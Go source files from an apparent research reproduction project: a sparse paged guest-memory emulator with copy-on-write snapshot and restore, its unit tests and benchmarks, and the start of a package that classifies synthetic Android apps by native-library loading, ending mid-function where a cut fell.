package mem

import "testing"

// TestSnapshotCOWRestore exercises the copy-on-write cycle: baseline values
// survive attempt writes, Restore rewinds in O(dirty pages), and pages
// created after the snapshot unmap again.
func TestSnapshotCOWRestore(t *testing.T) {
	m := New()
	m.Write32(0x1000, 0x11111111)
	m.Write32(0x2000, 0x22222222)
	m.Snapshot()
	if !m.SnapshotActive() {
		t.Fatal("snapshot not active")
	}

	m.Write32(0x1000, 0xdeadbeef) // dirty an existing page
	m.Write32(0x9000, 0x99999999) // create a new page
	if got := m.DirtyPages(); got != 2 {
		t.Fatalf("DirtyPages = %d, want 2", got)
	}
	if got := m.Read32(0x2000); got != 0x22222222 {
		t.Fatalf("untouched page = %#x, want 0x22222222", got)
	}

	n := m.Restore()
	if n != 2 {
		t.Fatalf("Restore reset %d pages, want 2", n)
	}
	if got := m.Read32(0x1000); got != 0x11111111 {
		t.Fatalf("restored page = %#x, want 0x11111111", got)
	}
	if m.Mapped(0x9000) {
		t.Fatal("page created after snapshot still mapped after restore")
	}
	if got := m.DirtyPages(); got != 0 {
		t.Fatalf("DirtyPages after restore = %d, want 0", got)
	}

	// The baseline must survive a second dirty/restore round.
	m.Write32(0x1000, 0xcafef00d)
	m.Restore()
	if got := m.Read32(0x1000); got != 0x11111111 {
		t.Fatalf("second restore = %#x, want 0x11111111", got)
	}
}

// TestSnapshotMemoInvalidation is the stale-memo regression (ISSUE 6): the
// one-entry page memo caches a raw page pointer; reading through it, then
// restoring (which swaps the page array), then reading again must observe the
// restored bytes, never the discarded copy.
func TestSnapshotMemoInvalidation(t *testing.T) {
	m := New()
	m.Write32(0x1000, 0xaaaaaaaa)
	m.Snapshot()

	// Dirty the page (COW gives it a private array), then prime the memo on
	// the private copy with a read.
	m.Write32(0x1000, 0xbbbbbbbb)
	if got := m.Read32(0x1004); got != 0 {
		t.Fatalf("pre-restore read = %#x, want 0", got)
	}

	m.Restore()
	// This read goes through the memo path; a stale memo would still point at
	// the discarded private array holding 0xbbbbbbbb.
	if got := m.Read32(0x1000); got != 0xaaaaaaaa {
		t.Fatalf("memo served stale page after restore: got %#x, want 0xaaaaaaaa", got)
	}

	// Same hazard on the write path: the write must COW the restored shared
	// page, not scribble on the baseline through a stale memo.
	m.Write32(0x1000, 0xcccccccc)
	m.Restore()
	if got := m.Read32(0x1000); got != 0xaaaaaaaa {
		t.Fatalf("baseline corrupted through stale write memo: got %#x", got)
	}
}

// TestSnapshotWriteNotifyOnRestore checks that restoring dirty pages fires
// the write-notify path (the CPU's cache-invalidation signal) for exactly the
// dirtied pages.
func TestSnapshotWriteNotifyOnRestore(t *testing.T) {
	m := New()
	m.Write32(0x1000, 1)
	m.Write32(0x2000, 2)
	// Subscribe before the snapshot, as the CPU does at boot (Restore
	// truncates the notify list back to its snapshot-time length).
	var notified []uint32
	m.AddWriteNotify(func(addr, n uint32) { notified = append(notified, addr>>12) })
	m.Snapshot()

	m.Write32(0x1000, 3)
	notified = nil

	m.Restore()
	if len(notified) != 1 || notified[0] != 1 {
		t.Fatalf("restore notified pages %v, want [1]", notified)
	}
}

// TestSnapshotWindowUnshares checks that Window (the frame-slot fast path)
// copies shared pages before handing out a writable alias.
func TestSnapshotWindowUnshares(t *testing.T) {
	m := New()
	m.Write32(0x1000, 0x12345678)
	m.Snapshot()

	w := m.Window(0x1000, 8)
	if w == nil {
		t.Fatal("window not available")
	}
	w[0] = 0xff
	m.Restore()
	if got := m.Read32(0x1000); got != 0x12345678 {
		t.Fatalf("window write reached the baseline: got %#x", got)
	}
}

// TestSnapshotRegionRestore checks region metadata rewinds with the pages.
func TestSnapshotRegionRestore(t *testing.T) {
	m := New()
	if err := m.AddRegion(Region{Start: 0x1000, End: 0x2000, Name: "boot"}); err != nil {
		t.Fatal(err)
	}
	m.Snapshot()
	if err := m.AddRegion(Region{Start: 0x8000, End: 0x9000, Name: "attempt"}); err != nil {
		t.Fatal(err)
	}
	m.Restore()
	rs := m.Regions()
	if len(rs) != 1 || rs[0].Name != "boot" {
		t.Fatalf("regions after restore = %v, want just boot", rs)
	}
}

// TestSnapshotRebase checks a second Snapshot moves the baseline forward.
func TestSnapshotRebase(t *testing.T) {
	m := New()
	m.Write32(0x1000, 1)
	m.Snapshot()
	m.Write32(0x1000, 2)
	m.Snapshot() // new baseline: 2
	m.Write32(0x1000, 3)
	m.Restore()
	if got := m.Read32(0x1000); got != 2 {
		t.Fatalf("rebased restore = %d, want 2", got)
	}
}
