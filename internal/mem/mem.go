// Package mem provides the emulated 32-bit guest physical memory used by the
// CPU emulator, the Dalvik VM (whose stacks and heap live inside it), the
// kernel (whose task structures are serialized into it for the OS-level view
// reconstructor), and the libc arena.
//
// The memory is sparse and paged; reads of unmapped pages return zeroes and
// writes allocate pages on demand, which matches how the rest of the system
// uses it (regions are reserved via the Region registry for bookkeeping, not
// for protection).
package mem

import (
	"encoding/binary"
	"fmt"
	"sort"
)

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
)

// Memory is a sparse paged 32-bit address space. The zero value is not
// usable; construct with New.
type Memory struct {
	pages   map[uint32]*[pageSize]byte
	regions []Region

	// lastPN/lastPg memoize the most recently touched page, exploiting the
	// locality of guest code: straight-line loads/stores land on the same
	// page almost every time, turning the map lookup into two compares.
	lastPN uint32
	lastPg *[pageSize]byte

	// notify holds the write observers; see AddWriteNotify.
	notify []func(addr, n uint32)
}

// Region describes a named address range (a module mapping, a stack, a heap).
// Regions are advisory metadata consumed by the kernel's memory-map tables
// and, through them, by the OS-level view reconstructor.
type Region struct {
	Name  string
	Start uint32
	End   uint32 // exclusive
	Perms string // e.g. "r-x", "rw-"
}

// New returns an empty memory.
func New() *Memory {
	return &Memory{
		pages:  make(map[uint32]*[pageSize]byte),
		lastPN: ^uint32(0), // page numbers fit in 20 bits; ^0 never matches
	}
}

// AddWriteNotify registers fn to be called with the address and byte length
// of every store, after the bytes land. The notified range [addr, addr+n)
// never crosses a page boundary: wide and bulk writes notify once per page
// chunk. The CPU's block translation cache uses this for sub-page
// invalidation of translated code (self-modifying code, reloaded library
// regions). Observers must be cheap: they run on every guest write.
func (m *Memory) AddWriteNotify(fn func(addr, n uint32)) {
	m.notify = append(m.notify, fn)
}

func (m *Memory) notifyWrite(addr, n uint32) {
	for _, fn := range m.notify {
		fn(addr, n)
	}
}

func (m *Memory) page(addr uint32, create bool) *[pageSize]byte {
	pn := addr >> pageShift
	if pn == m.lastPN {
		return m.lastPg
	}
	p, ok := m.pages[pn]
	if !ok {
		if !create {
			return nil
		}
		p = new([pageSize]byte)
		m.pages[pn] = p
	}
	m.lastPN, m.lastPg = pn, p
	return p
}

// Mapped reports whether the page containing addr has been materialized.
// The CPU's fetch path uses it to tell a genuine all-zeroes instruction on a
// mapped page apart from a wild branch into unmapped space (both read as 0).
func (m *Memory) Mapped(addr uint32) bool {
	return m.page(addr, false) != nil
}

// Read8 returns the byte at addr.
func (m *Memory) Read8(addr uint32) uint8 {
	p := m.page(addr, false)
	if p == nil {
		return 0
	}
	return p[addr&pageMask]
}

// Write8 stores one byte at addr.
func (m *Memory) Write8(addr uint32, v uint8) {
	m.page(addr, true)[addr&pageMask] = v
	if len(m.notify) != 0 {
		m.notifyWrite(addr, 1)
	}
}

// Read16 returns the little-endian halfword at addr.
func (m *Memory) Read16(addr uint32) uint16 {
	if addr&pageMask <= pageSize-2 {
		p := m.page(addr, false)
		if p == nil {
			return 0
		}
		return binary.LittleEndian.Uint16(p[addr&pageMask:])
	}
	return uint16(m.Read8(addr)) | uint16(m.Read8(addr+1))<<8
}

// Write16 stores a little-endian halfword at addr.
func (m *Memory) Write16(addr uint32, v uint16) {
	if addr&pageMask <= pageSize-2 {
		binary.LittleEndian.PutUint16(m.page(addr, true)[addr&pageMask:], v)
		if len(m.notify) != 0 {
			m.notifyWrite(addr, 2)
		}
		return
	}
	m.Write8(addr, uint8(v))
	m.Write8(addr+1, uint8(v>>8))
}

// Read32 returns the little-endian word at addr.
func (m *Memory) Read32(addr uint32) uint32 {
	if addr&pageMask <= pageSize-4 {
		p := m.page(addr, false)
		if p == nil {
			return 0
		}
		return binary.LittleEndian.Uint32(p[addr&pageMask:])
	}
	return uint32(m.Read16(addr)) | uint32(m.Read16(addr+2))<<16
}

// Write32 stores a little-endian word at addr.
func (m *Memory) Write32(addr uint32, v uint32) {
	if addr&pageMask <= pageSize-4 {
		binary.LittleEndian.PutUint32(m.page(addr, true)[addr&pageMask:], v)
		if len(m.notify) != 0 {
			m.notifyWrite(addr, 4)
		}
		return
	}
	m.Write16(addr, uint16(v))
	m.Write16(addr+2, uint16(v>>16))
}

// Read64 returns the little-endian doubleword at addr.
func (m *Memory) Read64(addr uint32) uint64 {
	return uint64(m.Read32(addr)) | uint64(m.Read32(addr+4))<<32
}

// Write64 stores a little-endian doubleword at addr.
func (m *Memory) Write64(addr uint32, v uint64) {
	m.Write32(addr, uint32(v))
	m.Write32(addr+4, uint32(v>>32))
}

// ReadBytes copies n bytes starting at addr into a fresh slice.
func (m *Memory) ReadBytes(addr, n uint32) []byte {
	out := make([]byte, n)
	for i := uint32(0); i < n; {
		off := (addr + i) & pageMask
		chunk := uint32(pageSize) - off
		if chunk > n-i {
			chunk = n - i
		}
		p := m.page(addr+i, false)
		if p != nil {
			copy(out[i:i+chunk], p[off:off+chunk])
		}
		i += chunk
	}
	return out
}

// WriteBytes stores b starting at addr.
func (m *Memory) WriteBytes(addr uint32, b []byte) {
	for i := 0; i < len(b); {
		off := (addr + uint32(i)) & pageMask
		chunk := pageSize - int(off)
		if chunk > len(b)-i {
			chunk = len(b) - i
		}
		p := m.page(addr+uint32(i), true)
		copy(p[off:off+uint32(chunk)], b[i:i+chunk])
		if len(m.notify) != 0 {
			m.notifyWrite(addr+uint32(i), uint32(chunk))
		}
		i += chunk
	}
}

// Window returns a direct byte slice aliasing [addr, addr+n) when the range
// fits inside one page, allocating the page on demand; nil otherwise. The
// window stays coherent with Read*/Write* (both touch the same backing
// array), but stores through it DO NOT fire write-notify observers. Callers
// must guarantee the range can never hold translated guest code — the DVM
// uses windows for interpreter stack frames, which live in a dedicated
// non-executable region.
func (m *Memory) Window(addr, n uint32) []byte {
	off := addr & pageMask
	if off+n > pageSize {
		return nil
	}
	p := m.page(addr, true)
	return p[off : off+n : off+n]
}

// ReadCString reads a NUL-terminated string starting at addr, up to max
// bytes (0 means a 64 KiB safety cap).
func (m *Memory) ReadCString(addr uint32, max int) string {
	if max <= 0 {
		max = 64 << 10
	}
	var out []byte
	for i := 0; i < max; i++ {
		b := m.Read8(addr + uint32(i))
		if b == 0 {
			break
		}
		out = append(out, b)
	}
	return string(out)
}

// WriteCString stores s followed by a NUL byte at addr and returns the number
// of bytes written including the terminator.
func (m *Memory) WriteCString(addr uint32, s string) uint32 {
	m.WriteBytes(addr, []byte(s))
	m.Write8(addr+uint32(len(s)), 0)
	return uint32(len(s)) + 1
}

// AddRegion registers a named address range. Overlaps are allowed (the kernel
// maintains per-task maps with stricter rules); ranges are kept sorted.
func (m *Memory) AddRegion(r Region) error {
	if r.End <= r.Start {
		return fmt.Errorf("mem: region %q end 0x%x <= start 0x%x", r.Name, r.End, r.Start)
	}
	m.regions = append(m.regions, r)
	sort.Slice(m.regions, func(i, j int) bool { return m.regions[i].Start < m.regions[j].Start })
	return nil
}

// Regions returns a copy of the registered regions, sorted by start address.
func (m *Memory) Regions() []Region {
	out := make([]Region, len(m.regions))
	copy(out, m.regions)
	return out
}

// RegionAt returns the first region containing addr.
func (m *Memory) RegionAt(addr uint32) (Region, bool) {
	for _, r := range m.regions {
		if addr >= r.Start && addr < r.End {
			return r, true
		}
	}
	return Region{}, false
}

// MappedPages reports how many pages are currently allocated.
func (m *Memory) MappedPages() int { return len(m.pages) }
