// Package mem provides the emulated 32-bit guest physical memory used by the
// CPU emulator, the Dalvik VM (whose stacks and heap live inside it), the
// kernel (whose task structures are serialized into it for the OS-level view
// reconstructor), and the libc arena.
//
// The memory is sparse and paged; reads of unmapped pages return zeroes and
// writes allocate pages on demand, which matches how the rest of the system
// uses it (regions are reserved via the Region registry for bookkeeping, not
// for protection).
package mem

import (
	"encoding/binary"
	"fmt"
	"sort"
)

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
)

// Memory is a sparse paged 32-bit address space. The zero value is not
// usable; construct with New.
type Memory struct {
	pages   map[uint32]*[pageSize]byte
	regions []Region

	// lastPN/lastPg memoize the most recently touched page, exploiting the
	// locality of guest code: straight-line loads/stores land on the same
	// page almost every time, turning the map lookup into two compares.
	// lastShared mirrors shared[lastPN] so the write path can tell a memoized
	// copy-on-write page apart from a private one without a map lookup; the
	// memo is reset by Restore (a hit would otherwise alias a page that was
	// just swapped back to its snapshot baseline).
	lastPN     uint32
	lastPg     *[pageSize]byte
	lastShared bool

	// notify holds the write observers; see AddWriteNotify.
	notify []func(addr, n uint32)

	// Copy-on-write snapshot state (see Snapshot). shared marks pages whose
	// backing array is owned by the snapshot baseline: the first write after
	// Snapshot copies the page and logs the baseline pointer in dirty, so
	// Restore is O(pages written since the snapshot), not O(address space).
	// A nil baseline in dirty marks a page created after the snapshot.
	snapActive  bool
	shared      map[uint32]bool
	dirty       map[uint32]*[pageSize]byte
	snapRegions []Region
	snapNotify  int
}

// Region describes a named address range (a module mapping, a stack, a heap).
// Regions are advisory metadata consumed by the kernel's memory-map tables
// and, through them, by the OS-level view reconstructor.
type Region struct {
	Name  string
	Start uint32
	End   uint32 // exclusive
	Perms string // e.g. "r-x", "rw-"
}

// New returns an empty memory.
func New() *Memory {
	return &Memory{
		pages:  make(map[uint32]*[pageSize]byte),
		lastPN: ^uint32(0), // page numbers fit in 20 bits; ^0 never matches
	}
}

// AddWriteNotify registers fn to be called with the address and byte length
// of every store, after the bytes land. The notified range [addr, addr+n)
// never crosses a page boundary: wide and bulk writes notify once per page
// chunk. The CPU's block translation cache uses this for sub-page
// invalidation of translated code (self-modifying code, reloaded library
// regions). Observers must be cheap: they run on every guest write.
func (m *Memory) AddWriteNotify(fn func(addr, n uint32)) {
	m.notify = append(m.notify, fn)
}

func (m *Memory) notifyWrite(addr, n uint32) {
	for _, fn := range m.notify {
		fn(addr, n)
	}
}

func (m *Memory) page(addr uint32, create bool) *[pageSize]byte {
	pn := addr >> pageShift
	if pn == m.lastPN && !(create && m.lastShared) {
		return m.lastPg
	}
	p, ok := m.pages[pn]
	if !ok {
		if !create {
			return nil
		}
		p = new([pageSize]byte)
		m.pages[pn] = p
		if m.snapActive {
			if _, logged := m.dirty[pn]; !logged {
				m.dirty[pn] = nil // created after the snapshot
			}
		}
		m.lastPN, m.lastPg, m.lastShared = pn, p, false
		return p
	}
	shared := m.snapActive && m.shared[pn]
	if create && shared {
		p = m.unshare(pn, p)
		shared = false
	}
	m.lastPN, m.lastPg, m.lastShared = pn, p, shared
	return p
}

// unshare performs the copy-on-first-write: the snapshot keeps the baseline
// array, the live map gets a private copy, and the baseline pointer is logged
// so Restore can swap it back.
func (m *Memory) unshare(pn uint32, base *[pageSize]byte) *[pageSize]byte {
	p := new([pageSize]byte)
	*p = *base
	m.pages[pn] = p
	delete(m.shared, pn)
	if _, logged := m.dirty[pn]; !logged {
		m.dirty[pn] = base
	}
	return p
}

// Mapped reports whether the page containing addr has been materialized.
// The CPU's fetch path uses it to tell a genuine all-zeroes instruction on a
// mapped page apart from a wild branch into unmapped space (both read as 0).
func (m *Memory) Mapped(addr uint32) bool {
	return m.page(addr, false) != nil
}

// Read8 returns the byte at addr.
func (m *Memory) Read8(addr uint32) uint8 {
	p := m.page(addr, false)
	if p == nil {
		return 0
	}
	return p[addr&pageMask]
}

// Write8 stores one byte at addr.
func (m *Memory) Write8(addr uint32, v uint8) {
	m.page(addr, true)[addr&pageMask] = v
	if len(m.notify) != 0 {
		m.notifyWrite(addr, 1)
	}
}

// Read16 returns the little-endian halfword at addr.
func (m *Memory) Read16(addr uint32) uint16 {
	if addr&pageMask <= pageSize-2 {
		p := m.page(addr, false)
		if p == nil {
			return 0
		}
		return binary.LittleEndian.Uint16(p[addr&pageMask:])
	}
	return uint16(m.Read8(addr)) | uint16(m.Read8(addr+1))<<8
}

// Write16 stores a little-endian halfword at addr.
func (m *Memory) Write16(addr uint32, v uint16) {
	if addr&pageMask <= pageSize-2 {
		binary.LittleEndian.PutUint16(m.page(addr, true)[addr&pageMask:], v)
		if len(m.notify) != 0 {
			m.notifyWrite(addr, 2)
		}
		return
	}
	m.Write8(addr, uint8(v))
	m.Write8(addr+1, uint8(v>>8))
}

// Read32 returns the little-endian word at addr.
func (m *Memory) Read32(addr uint32) uint32 {
	if addr&pageMask <= pageSize-4 {
		p := m.page(addr, false)
		if p == nil {
			return 0
		}
		return binary.LittleEndian.Uint32(p[addr&pageMask:])
	}
	return uint32(m.Read16(addr)) | uint32(m.Read16(addr+2))<<16
}

// Write32 stores a little-endian word at addr.
func (m *Memory) Write32(addr uint32, v uint32) {
	if addr&pageMask <= pageSize-4 {
		binary.LittleEndian.PutUint32(m.page(addr, true)[addr&pageMask:], v)
		if len(m.notify) != 0 {
			m.notifyWrite(addr, 4)
		}
		return
	}
	m.Write16(addr, uint16(v))
	m.Write16(addr+2, uint16(v>>16))
}

// Read64 returns the little-endian doubleword at addr.
func (m *Memory) Read64(addr uint32) uint64 {
	return uint64(m.Read32(addr)) | uint64(m.Read32(addr+4))<<32
}

// Write64 stores a little-endian doubleword at addr.
func (m *Memory) Write64(addr uint32, v uint64) {
	m.Write32(addr, uint32(v))
	m.Write32(addr+4, uint32(v>>32))
}

// ReadBytes copies n bytes starting at addr into a fresh slice.
func (m *Memory) ReadBytes(addr, n uint32) []byte {
	out := make([]byte, n)
	for i := uint32(0); i < n; {
		off := (addr + i) & pageMask
		chunk := uint32(pageSize) - off
		if chunk > n-i {
			chunk = n - i
		}
		p := m.page(addr+i, false)
		if p != nil {
			copy(out[i:i+chunk], p[off:off+chunk])
		}
		i += chunk
	}
	return out
}

// WriteBytes stores b starting at addr.
func (m *Memory) WriteBytes(addr uint32, b []byte) {
	for i := 0; i < len(b); {
		off := (addr + uint32(i)) & pageMask
		chunk := pageSize - int(off)
		if chunk > len(b)-i {
			chunk = len(b) - i
		}
		p := m.page(addr+uint32(i), true)
		copy(p[off:off+uint32(chunk)], b[i:i+chunk])
		if len(m.notify) != 0 {
			m.notifyWrite(addr+uint32(i), uint32(chunk))
		}
		i += chunk
	}
}

// Window returns a direct byte slice aliasing [addr, addr+n) when the range
// fits inside one page, allocating the page on demand; nil otherwise. The
// window stays coherent with Read*/Write* (both touch the same backing
// array), but stores through it DO NOT fire write-notify observers. Callers
// must guarantee the range can never hold translated guest code — the DVM
// uses windows for interpreter stack frames, which live in a dedicated
// non-executable region.
func (m *Memory) Window(addr, n uint32) []byte {
	off := addr & pageMask
	if off+n > pageSize {
		return nil
	}
	p := m.page(addr, true)
	return p[off : off+n : off+n]
}

// ReadCString reads a NUL-terminated string starting at addr, up to max
// bytes (0 means a 64 KiB safety cap).
func (m *Memory) ReadCString(addr uint32, max int) string {
	if max <= 0 {
		max = 64 << 10
	}
	var out []byte
	for i := 0; i < max; i++ {
		b := m.Read8(addr + uint32(i))
		if b == 0 {
			break
		}
		out = append(out, b)
	}
	return string(out)
}

// WriteCString stores s followed by a NUL byte at addr and returns the number
// of bytes written including the terminator.
func (m *Memory) WriteCString(addr uint32, s string) uint32 {
	m.WriteBytes(addr, []byte(s))
	m.Write8(addr+uint32(len(s)), 0)
	return uint32(len(s)) + 1
}

// AddRegion registers a named address range. Overlaps are allowed (the kernel
// maintains per-task maps with stricter rules); ranges are kept sorted.
func (m *Memory) AddRegion(r Region) error {
	if r.End <= r.Start {
		return fmt.Errorf("mem: region %q end 0x%x <= start 0x%x", r.Name, r.End, r.Start)
	}
	m.regions = append(m.regions, r)
	sort.Slice(m.regions, func(i, j int) bool { return m.regions[i].Start < m.regions[j].Start })
	return nil
}

// Regions returns a copy of the registered regions, sorted by start address.
func (m *Memory) Regions() []Region {
	out := make([]Region, len(m.regions))
	copy(out, m.regions)
	return out
}

// RegionAt returns the first region containing addr.
func (m *Memory) RegionAt(addr uint32) (Region, bool) {
	for _, r := range m.regions {
		if addr >= r.Start && addr < r.End {
			return r, true
		}
	}
	return Region{}, false
}

// MappedPages reports how many pages are currently allocated.
func (m *Memory) MappedPages() int { return len(m.pages) }

// Snapshot captures the current contents copy-on-write: every mapped page is
// marked shared (O(mapped pages), no copying), and subsequent writes copy the
// page they touch before mutating it. Restore swaps the copied pages back —
// O(pages dirtied since the snapshot). Calling Snapshot again moves the
// baseline forward to the current state, releasing the previous baseline.
func (m *Memory) Snapshot() {
	if m.shared == nil {
		m.shared = make(map[uint32]bool, len(m.pages))
	}
	for pn := range m.pages {
		m.shared[pn] = true
	}
	m.dirty = make(map[uint32]*[pageSize]byte)
	m.snapRegions = append([]Region(nil), m.regions...)
	m.snapNotify = len(m.notify)
	m.snapActive = true
	m.lastPN, m.lastPg, m.lastShared = ^uint32(0), nil, false
}

// SnapshotActive reports whether a copy-on-write baseline is in place.
func (m *Memory) SnapshotActive() bool { return m.snapActive }

// DirtyPages reports how many pages have been written (or created) since the
// last Snapshot.
func (m *Memory) DirtyPages() int { return len(m.dirty) }

// Restore rewinds the contents to the last Snapshot and returns the number of
// pages that were reset. Only dirtied pages are touched: copied pages swap
// back to their shared baseline arrays, pages created after the snapshot are
// unmapped, and each reset page fires the write-notify observers (the page's
// bytes changed as far as any observer — translation caches, shadow state —
// is concerned). The region table and the observer list are rewound to their
// snapshot state, and the page memo is invalidated so a stale pointer to a
// swapped page can never be served. The snapshot stays in place for the next
// Restore.
func (m *Memory) Restore() int {
	if !m.snapActive {
		return 0
	}
	n := len(m.dirty)
	for pn, base := range m.dirty {
		if base != nil {
			m.pages[pn] = base
			m.shared[pn] = true
		} else {
			delete(m.pages, pn)
		}
	}
	// Invalidate the memo before notifying: observers may read through us.
	m.lastPN, m.lastPg, m.lastShared = ^uint32(0), nil, false
	m.regions = append(m.regions[:0], m.snapRegions...)
	m.notify = m.notify[:m.snapNotify]
	for pn := range m.dirty {
		m.notifyWrite(pn<<pageShift, pageSize)
	}
	m.dirty = make(map[uint32]*[pageSize]byte)
	return n
}
