package mem

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestReadWriteWidths(t *testing.T) {
	m := New()
	m.Write8(0x100, 0xab)
	if got := m.Read8(0x100); got != 0xab {
		t.Errorf("Read8 = %#x", got)
	}
	m.Write16(0x200, 0x1234)
	if got := m.Read16(0x200); got != 0x1234 {
		t.Errorf("Read16 = %#x", got)
	}
	m.Write32(0x300, 0xdeadbeef)
	if got := m.Read32(0x300); got != 0xdeadbeef {
		t.Errorf("Read32 = %#x", got)
	}
	m.Write64(0x400, 0x0123456789abcdef)
	if got := m.Read64(0x400); got != 0x0123456789abcdef {
		t.Errorf("Read64 = %#x", got)
	}
}

func TestLittleEndianLayout(t *testing.T) {
	m := New()
	m.Write32(0x100, 0x11223344)
	want := []byte{0x44, 0x33, 0x22, 0x11}
	for i, b := range want {
		if got := m.Read8(0x100 + uint32(i)); got != b {
			t.Errorf("byte %d = %#x, want %#x", i, got, b)
		}
	}
}

func TestUnmappedReadsZero(t *testing.T) {
	m := New()
	if m.Read32(0xdead0000) != 0 {
		t.Error("unmapped read should be zero")
	}
	if m.MappedPages() != 0 {
		t.Error("reads must not allocate pages")
	}
}

func TestCrossPageAccess(t *testing.T) {
	m := New()
	// A word written across the 4K page boundary must read back whole.
	m.Write32(0xfff, 0xcafebabe)
	if got := m.Read32(0xfff); got != 0xcafebabe {
		t.Errorf("cross-page Read32 = %#x", got)
	}
	m.Write16(0x1fff, 0xbeef)
	if got := m.Read16(0x1fff); got != 0xbeef {
		t.Errorf("cross-page Read16 = %#x", got)
	}
}

func TestBulkBytes(t *testing.T) {
	m := New()
	data := make([]byte, 10000) // spans multiple pages
	for i := range data {
		data[i] = byte(i * 7)
	}
	m.WriteBytes(0xffe, data)
	got := m.ReadBytes(0xffe, uint32(len(data)))
	if !bytes.Equal(got, data) {
		t.Fatal("bulk write/read mismatch")
	}
}

func TestCString(t *testing.T) {
	m := New()
	n := m.WriteCString(0x500, "hello")
	if n != 6 {
		t.Errorf("WriteCString returned %d, want 6", n)
	}
	if got := m.ReadCString(0x500, 0); got != "hello" {
		t.Errorf("ReadCString = %q", got)
	}
	if got := m.ReadCString(0x500, 3); got != "hel" {
		t.Errorf("capped ReadCString = %q", got)
	}
}

func TestRegions(t *testing.T) {
	m := New()
	if err := m.AddRegion(Region{Name: "libc.so", Start: 0x40000, End: 0x50000, Perms: "r-x"}); err != nil {
		t.Fatal(err)
	}
	if err := m.AddRegion(Region{Name: "stack", Start: 0x7f000, End: 0x80000, Perms: "rw-"}); err != nil {
		t.Fatal(err)
	}
	if err := m.AddRegion(Region{Name: "bad", Start: 10, End: 10}); err == nil {
		t.Error("empty region should be rejected")
	}
	r, ok := m.RegionAt(0x41000)
	if !ok || r.Name != "libc.so" {
		t.Errorf("RegionAt = %+v, %v", r, ok)
	}
	if _, ok := m.RegionAt(0x60000); ok {
		t.Error("hole should not resolve")
	}
	regs := m.Regions()
	if len(regs) != 2 || regs[0].Name != "libc.so" {
		t.Errorf("Regions() = %+v", regs)
	}
}

func TestWordRoundTripProperty(t *testing.T) {
	m := New()
	f := func(addr uint32, v uint32) bool {
		addr %= 1 << 24
		m.Write32(addr, v)
		return m.Read32(addr) == v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// BenchmarkMemAccess measures the data-path cost of loads and stores. The
// same-page case is the one the lastPN/lastPg memo accelerates (guest code
// overwhelmingly touches the page it just touched); cross-page alternation
// defeats the memo and shows the raw map-lookup cost.
func BenchmarkMemAccess(b *testing.B) {
	b.Run("same-page", func(b *testing.B) {
		m := New()
		m.Write32(0x8000, 1) // map the page
		var sink uint32
		for i := 0; i < b.N; i++ {
			addr := 0x8000 + uint32(i%256)*4
			m.Write32(addr, uint32(i))
			sink += m.Read32(addr)
		}
		_ = sink
	})
	b.Run("cross-page", func(b *testing.B) {
		m := New()
		m.Write32(0x8000, 1)
		m.Write32(0x20000, 1)
		var sink uint32
		for i := 0; i < b.N; i++ {
			addr := uint32(0x8000)
			if i&1 != 0 {
				addr = 0x20000 // alternate pages: every access misses the memo
			}
			m.Write32(addr, uint32(i))
			sink += m.Read32(addr)
		}
		_ = sink
	})
}
