// Package corpus reproduces the paper's Section III large-scale study of
// 227,911 Google Play apps. Since the original crawl is unavailable, a
// seeded generator synthesizes a market whose ground-truth marginals match
// the published numbers, and a static analyzer re-derives every reported
// statistic from the generated artifacts using the same analysis the authors
// describe: scanning Dalvik bytecode for System.loadLibrary()/System.load()
// invocations, inventorying packaged native libraries, and checking embedded
// dex files for loader capability.
package corpus

import "repro/internal/dex"

// APK models one application package as the analyzer sees it.
type APK struct {
	Pkg      string
	Category string

	// LibFiles are packaged native libraries ("lib/armeabi/libfoo.so").
	LibFiles []string

	// MainClasses is the app's classes.dex content (real dex.Class values —
	// the analyzer scans actual bytecode, not metadata flags).
	MainClasses []*dex.Class

	// EmbeddedDex models compressed dex assets the app can load dynamically
	// (the Type II loader idiom of §III-B).
	EmbeddedDex []*dex.Class

	// NativeActivity marks pure-native apps (§III-C).
	NativeActivity bool
}

// AppKind classifies an app per §III.
type AppKind int

// Kinds. KindNone = app does not use JNI at all.
const (
	KindNone AppKind = iota
	KindI            // calls System.load/loadLibrary in its main dex
	KindII           // packages native libs without loading them
	KindIII          // pure native application
)

var kindNames = [...]string{"none", "I", "II", "III"}

// String names the kind.
func (k AppKind) String() string { return kindNames[k] }

// Classify performs the paper's static analysis on one app.
func Classify(a *APK) AppKind {
	if a.NativeActivity && len(a.MainClasses) == 0 {
		return KindIII
	}
	if scanForLoadLibrary(a.MainClasses) {
		return KindI
	}
	if len(a.LibFiles) > 0 {
		return KindII
	}
	return KindNone
}

// scanForLoadLibrary walks real bytecode looking for invoke-static
// Ljava/lang/System;->loadLibrary/load — the Type I signature.
func scanForLoadLibrary(classes []*dex.Class) bool {
	for _, c := range classes {
		for _, m := range c.Methods {
			for i := range m.Insns {
				insn := &m.Insns[i]
				if insn.Op != dex.InvokeStatic {
					continue
				}
				if insn.ClassName == "Ljava/lang/System;" &&
					(insn.MemberName == "loadLibrary" || insn.MemberName == "load") {
					return true
				}
			}
		}
	}
	return false
}

// HasLoaderDex reports whether any embedded dex contains load capability
// (the §III-B finding: 394 Type II apps can load native libraries once they
// load their hidden dex).
func HasLoaderDex(a *APK) bool { return scanForLoadLibrary(a.EmbeddedDex) }

// HasNativeDecls reports whether any class declares native methods, and
// returns the declaring class names (for the §III-A AdMob analysis).
func HasNativeDecls(classes []*dex.Class) []string {
	var out []string
	for _, c := range classes {
		for _, m := range c.Methods {
			if m.IsNative() {
				out = append(out, c.Name)
				break
			}
		}
	}
	return out
}
