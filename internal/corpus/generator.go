package corpus

import (
	"fmt"
	"math/rand"

	"repro/internal/dex"
)

// MarketParams sets the ground-truth marginals of the synthetic market. The
// defaults are the paper's published numbers (§III).
type MarketParams struct {
	Total            int // all crawled apps
	TypeI            int // apps invoking System.load/loadLibrary
	TypeINoLibs      int // Type I apps packaging no .so at all
	TypeINoLibsAdMob int // ... of which carry the AdMob plugin classes
	TypeII           int // apps packaging .so without loading them
	TypeIIWithLoader int // ... of which have a loader dex
	TypeIIIGame      int // pure-native game apps
	TypeIIIEnt       int // pure-native entertainment apps
	Seed             int64
}

// PaperParams returns the §III numbers: 227,911 apps, 37,506 Type I (16.46%),
// 4,034 Type I without libs (48.1% AdMob), 1,738 Type II (394 with loader
// dex), 16 Type III (11 game, 5 entertainment).
func PaperParams() MarketParams {
